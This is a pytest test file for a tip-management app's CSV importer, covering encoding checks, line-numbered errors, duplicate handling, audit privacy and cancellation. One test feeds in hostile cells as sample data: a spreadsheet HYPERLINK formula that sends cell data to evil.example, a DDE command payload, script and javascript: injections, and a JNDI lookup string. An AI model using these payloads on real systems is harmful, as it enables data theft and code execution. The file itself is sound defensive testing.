"""CSV import of tips: good, malformed and hostile files; line numbers; re-import."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest
from sqlmodel import func, select

from caseapp.domain.models import AuditEntry, Identifier, Tip
from caseapp.services.errors import InvalidInput
from caseapp.services.tips import importer, intake, tips
from caseapp.services.tips.importer import import_tips_csv

HEADER = ("received_at,channel,programme,reference,anonymous,tipster_name,tipster_contact,"
          "content,identifiers,reliability,credibility\n")
NAME = "Peregrine Vashti-Fictional"
CONTACT = "p.vashti@tipster.example"


def _csv(tmp_path: Path, text: str, name: str = "tips.csv", encoding: str = "utf-8") -> Path:
    path = tmp_path / name
    path.write_bytes(text.encode(encoding))
    return path


def _count(ws) -> int:  # noqa: ANN001
    with ws.session() as session:
        return session.exec(select(func.count()).select_from(Tip)).one()


def _by_ref(ws) -> dict[str, Tip]:  # noqa: ANN001
    with ws.session() as session:
        return {t.ref: t for t in session.exec(select(Tip)).all()}


GOOD = HEADER + (
    "2026-03-01T10:00:00,reward program,Rewards (fictional),RWD-7,no," + NAME + ","
    + CONTACT + ",Laptop goes to the NJ flat,"
    "phone:+1 512 555 0142;https://github.com/AlexMorganQA;2001:db8::7;ip:2001:DB8::8;"
    "a.morgan@mailbox.example,b,2\n"
    "2026-03-02T08:30:00+09:00,Phone,,,yes,,,Anonymous caller about payroll,,F,6\n"
    "2026-03-03,e-mail,,,,,,\"Multi-line\ncontent, with a comma\",,,\n"
)


def test_good_file(ws, tmp_path) -> None:
    report = import_tips_csv(ws, _csv(tmp_path, GOOD))
    assert report.to_json()["errors"] == [] and report.warnings == []
    assert (report.imported, report.skipped_duplicates) == (3, 0)
    assert report.tips == ["TIP-2026-0001", "TIP-2026-0002", "TIP-2026-0003"]
    rows = _by_ref(ws)
    first, second, third = (rows[r] for r in report.tips)
    assert first.received_at == datetime(2026, 3, 1, 10, 0, tzinfo=UTC)  # no offset = UTC
    assert second.received_at == datetime(2026, 3, 1, 23, 30, tzinfo=UTC)
    assert third.received_at == datetime(2026, 3, 3, tzinfo=UTC)
    assert (first.channel, second.channel, third.channel) == ("reward-programme", "hotline",
                                                              "email")
    assert (first.programme, first.reference, first.reliability, first.credibility) == (
        "Rewards (fictional)", "RWD-7", "B", "2")
    assert (first.anonymous, first.tipster_name, first.tipster_contact) == (False, NAME, CONTACT)
    assert (second.anonymous, second.tipster_name, second.tipster_contact) == (True, None, None)
    assert third.content == "Multi-line\ncontent, with a comma"
    view = tips.get_tip(ws, first.ref)
    assert [(i.kind, i.normalized) for i in view.identifiers] == [
        ("phone", "+15125550142"), ("url", "https://github.com/alexmorganqa"),
        ("ip", "2001:db8::7"), ("ip", "2001:db8::8"), ("email", "a.morgan@mailbox.example")]
    assert view.identity_masked


def test_bom_case_insensitive_header_missing_optional_and_unknown_columns(ws, tmp_path) -> None:
    text = ("\ufeffReceived_At,CHANNEL,Content,Colour,Priority\n"
            "2026-05-01T12:00:00Z,hotline,Caller mentions a laptop farm,red,high\n")
    report = import_tips_csv(ws, _csv(tmp_path, text))
    assert report.imported == 1 and report.errors == []
    assert report.warnings == ["unknown column 'Colour' ignored",
                               "unknown column 'Priority' ignored"]
    tip = _by_ref(ws)[report.tips[0]]
    assert (tip.programme, tip.anonymous, tip.reliability, tip.tipster_name) == (
        "", False, None, None)


@pytest.mark.parametrize("encoding", ["latin-1", "cp1252"])
def test_wrong_encoding_imports_nothing(ws, tmp_path, encoding: str) -> None:
    text = HEADER + "2026-03-01,email,,,,,,Straße und Café - Müller,,,\n"
    with pytest.raises(InvalidInput, match="not UTF-8.*line 2.*Nothing was imported"):
        import_tips_csv(ws, _csv(tmp_path, text, encoding=encoding))
    assert _count(ws) == 0


def test_utf16_and_headerless_and_empty_files_are_refused(ws, tmp_path) -> None:
    with pytest.raises(InvalidInput, match="UTF-16"):
        import_tips_csv(ws, _csv(tmp_path, "\ufeff" + GOOD, encoding="utf-16"))
    with pytest.raises(InvalidInput, match="not a header row"):
        import_tips_csv(ws, _csv(tmp_path, "2026-03-01,email,some content\n"))
    with pytest.raises(InvalidInput, match="empty"):
        import_tips_csv(ws, _csv(tmp_path, "\n\n"))
    with pytest.raises(InvalidInput, match="required column.*received_at"):
        import_tips_csv(ws, _csv(tmp_path, "channel,content\nemail,hello there\n"))
    with pytest.raises(InvalidInput, match="twice"):
        import_tips_csv(ws, _csv(tmp_path, "received_at,channel,content,CONTENT\n"))
    with pytest.raises(InvalidInput, match="not a file"):
        import_tips_csv(ws, tmp_path)
    assert _count(ws) == 0


def test_bad_rows_are_reported_with_their_physical_line(ws, tmp_path) -> None:
    text = HEADER + (
        "2026-03-01,email,,,,,,\"first\nmulti-line\ncell\",,,\n"       # lines 2-4: good
        "yesterday,email,,,,,,bad time,,,\n"                            # line 5
        "2026-03-01,pigeon,,,,,,bad channel,,,\n"                      # line 6
        "2026-03-01,email,,,,,,\"another\n\nmulti-line\",,G,\n"          # lines 7-9: bad grade
        "2026-03-01,email,,,maybe,,,bad anonymous value,,,\n"          # line 10
        f"2026-03-01,email,,,true,{NAME},,anonymous with a name,,,\n"  # line 11
        f"2026-03-01,email,,,yes,,{CONTACT},anonymous with contact,,,\n"  # line 12
        "2026-03-01,email,,,,,,,,,\n"                                  # line 13: no content
        "2026-03-01,,,,,,,no channel,,,\n"                              # line 14
        "2026-03-01,email,,,,,,unclassifiable identifier,foo bar,,\n"  # line 15
        "2026-03-01,email,,,,,,credibility seven,,A,7\n"              # line 16
        "2026-03-01,email,,,,,,too many,,,,cells,here\n"                # line 17
        "\n"                                                            # line 18: blank
        "2026-03-01,email,,,,,,\"last good\r\nrow\",,,\n"              # lines 19-20
        ",email,,,,,,no time at all,,,\n"                              # line 21
    )
    report = import_tips_csv(ws, _csv(tmp_path, text))
    assert report.imported == 2
    errors = {e.line: e.error for e in report.errors}
    assert sorted(errors) == [5, 6, 7, 10, 11, 12, 13, 14, 15, 16, 17, 21]
    assert "ISO 8601" in errors[5] and "channel 'pigeon'" in errors[6]
    assert "reliability 'G'" in errors[7] and "anonymous 'maybe'" in errors[10]
    assert "anonymous" in errors[11] and "anonymous" in errors[12]
    assert "content is empty" in errors[13] and "channel is empty" in errors[14]
    assert "cannot tell its kind" in errors[15] and "credibility '7'" in errors[16]
    assert "cells but the header has 11" in errors[17] and "received_at is empty" in errors[21]
    everything = repr(report.to_json())
    assert NAME not in everything and CONTACT not in everything


def test_hostile_cells_are_stored_literally_and_huge_cells_refused(ws, tmp_path) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
    cells = [formula, "+SUM(1+1)", "-2+3", "@cmd|' /C calc'!A0",
             "<script>alert('x')</script> <b>bold</b> &amp; <font name=x>",
             "\tleading tab", "[link](javascript:alert(1)) {{7*7}} ${jndi:ldap://x}"]
    body = "".join(f'2026-03-0{i + 1},email,,,,,,"{c.replace(chr(34), chr(34) * 2)}",,,\n'
                   for i, c in enumerate(cells))
    huge = "x" * (intake.MAX_CONTENT + 1)
    body += f"2026-03-09,email,,,,,,{huge},,,\n"
    body += f"2026-03-09,email,,,,{'N' * (intake.MAX_FIELD + 1)},,long name,,,\n"
    body += f"2026-03-09,email,{'P' * 5000},,,,,long programme,,,\n"
    report = import_tips_csv(ws, _csv(tmp_path, HEADER + body))
    assert report.imported == len(cells)
    errors = {e.line: e.error for e in report.errors}
    assert sorted(errors) == [9, 10, 11]
    assert "content cell is 100,001 characters; the limit is 100,000" in errors[9]
    assert "tipster_name cell" in errors[10] and "NNNN" not in errors[10]
    assert "programme cell" in errors[11]
    stored = sorted(t.content for t in _by_ref(ws).values())
    assert stored == sorted(c.strip() for c in cells)  # literal, not neutralised or escaped
    assert formula in stored


def test_reimport_skips_imported_rows_and_flags_similar_ones(ws, tmp_path) -> None:
    path = _csv(tmp_path, GOOD)
    first = import_tips_csv(ws, path)
    assert first.imported == 3
    again = import_tips_csv(ws, path)
    assert (again.imported, again.skipped_duplicates, again.errors) == (0, 3, [])
    assert _count(ws) == 3
    variant = HEADER + (
        "2026-04-01,email,,,,,,\"LAPTOP goes to the NJ flat!!\",,,\n"  # same normalised text
        "2026-04-01,email,,,,,,\"Multi-line content, with a coma\",,,\n"
        "2026-04-02,email,,,,,,Totally unrelated lead about a VoIP number,"
        "phone:+15125550142,,\n"
        "2026-04-03,email,,,,,,Totally unrelated lead about a VoIP number,,,\n"  # dup in file
    )
    report = import_tips_csv(ws, _csv(tmp_path, variant, "variant.csv"))
    assert (report.imported, report.skipped_duplicates) == (2, 2)
    flagged = {c["line"]: [x["ref"] for x in c["candidates"]] for c in report.candidates}
    assert flagged == {3: ["TIP-2026-0003"], 4: ["TIP-2026-0001"]}
    assert any(w.startswith("line 3: TIP-2026-0004 may duplicate TIP-2026-0003 (similar "
                            "content") for w in report.warnings)
    assert any("shares phone +15125550142" in w for w in report.warnings)


def test_crash_mid_import_leaves_only_whole_rows(ws, tmp_path, monkeypatch) -> None:
    text = HEADER + "".join(
        f"2026-03-0{i},email,,,,,,Distinct lead number {i} about contractor {i * 7},"
        f"phone:+1512555010{i},,\n" for i in range(1, 6))
    path = _csv(tmp_path, text)
    real = importer.new_tip_in
    calls = {"n": 0}

    def flaky(session, **kw):  # noqa: ANN001, ANN003
        tip, idents = real(session, **kw)
        calls["n"] += 1
        if calls["n"] == 3:  # the third row's tip and identifiers are written, then a crash
            raise RuntimeError("power cut")
        return tip, idents

    monkeypatch.setattr(importer, "new_tip_in", flaky)
    with pytest.raises(RuntimeError):
        import_tips_csv(ws, path)
    with ws.session() as session:
        saved = session.exec(select(Tip).order_by(Tip.id)).all()
        assert [t.content for t in saved] == ["Distinct lead number 1 about contractor 7",
                                              "Distinct lead number 2 about contractor 14"]
        idents = session.exec(select(Identifier)).all()
        assert sorted(i.tip_id for i in idents) == [t.id for t in saved]
    monkeypatch.setattr(importer, "new_tip_in", real)
    report = import_tips_csv(ws, path)
    assert (report.imported, report.skipped_duplicates) == (3, 2)
    assert _count(ws) == 5


def test_import_is_audited_without_tipster_identity(ws, tmp_path) -> None:
    text = GOOD + f"2026-03-04,email,,,yes,{NAME},{CONTACT},named but anonymous,,,\n"
    report = import_tips_csv(ws, _csv(tmp_path, text))
    assert report.imported == 3 and [e.line for e in report.errors] == [6]
    with ws.session() as session:
        entries = session.exec(select(AuditEntry)).all()
    details = " ".join(f"{e.action} {e.entity_id} {e.detail}" for e in entries)
    assert NAME not in details and CONTACT not in details
    summary = [e for e in entries if e.action == "tips.imported"]
    assert len(summary) == 1 and '"imported":3' in summary[0].detail
    assert sum(e.action == "tip.created" for e in entries) == 3
    assert '"source":"csv"' in details


def test_received_at_with_other_offsets(ws, tmp_path) -> None:
    text = HEADER + ("2026-03-01T23:30:00-05:00,email,,,,,,new york evening,,,\n"
                     "2025-12-31T23:30:00Z,email,,,,,,new year's eve in utc,,,\n")
    report = import_tips_csv(ws, _csv(tmp_path, text))
    rows = sorted(_by_ref(ws).values(), key=lambda t: t.id)
    assert rows[0].received_at == datetime(2026, 3, 1, 23, 30,
                                           tzinfo=timezone(timedelta(hours=-5)))
    assert report.tips == ["TIP-2026-0001", "TIP-2025-0001"]


def test_unnormalisable_identifier_is_kept_with_a_warning(ws, tmp_path) -> None:
    text = HEADER + "2026-03-01,email,,,,,,odd phone,phone:12;ip:[2001:db8::9],,\n"
    report = import_tips_csv(ws, _csv(tmp_path, text))
    assert report.imported == 1 and report.errors == []
    assert report.warnings == ["line 2: TIP-2026-0001 identifier phone '12' could not be "
                               "normalised (no country code; give +<country>); kept as written"]
    view = tips.get_tip(ws, "TIP-2026-0001")
    assert [(i.kind, i.normalized, i.normalized_ok) for i in view.identifiers] == [
        ("phone", "12", False), ("ip", "2001:db8::9", True)]


def test_oversized_file_is_refused_before_reading(ws, tmp_path, monkeypatch) -> None:
    monkeypatch.setattr(importer, "MAX_FILE_BYTES", 200)
    path = _csv(tmp_path, GOOD)
    assert path.stat().st_size > 200
    with pytest.raises(InvalidInput, match="limit for a tip CSV"):
        import_tips_csv(ws, path)
    assert _count(ws) == 0


def test_cancel_stops_before_the_next_row_and_says_where(ws, tmp_path) -> None:
    rows = "".join(f"2026-03-{day:02d}T10:00:00,hotline,,,yes,,,Distinct report number {day} "
                   f"about courier {day * 7919},,,\n" for day in range(1, 11))
    path = _csv(tmp_path, HEADER + rows)
    seen: list[tuple[int, int]] = []
    report = import_tips_csv(ws, path, progress=lambda line, total: seen.append((line, total)),
                             cancel=lambda: len(seen) >= 3)
    assert report.imported == 3 and _count(ws) == 3
    assert report.cancelled_at == 5  # header is line 1; rows 2-4 were imported
    assert report.to_json()["cancelled_at"] == 5
    assert any("cancelled at line 5" in w for w in report.warnings)
    assert seen[0] == (2, 12) and [line for line, _ in seen] == [2, 3, 4]
    again = import_tips_csv(ws, path)  # re-import finishes the job, skipping what is there
    assert (again.imported, again.skipped_duplicates, again.cancelled_at) == (7, 3, None)
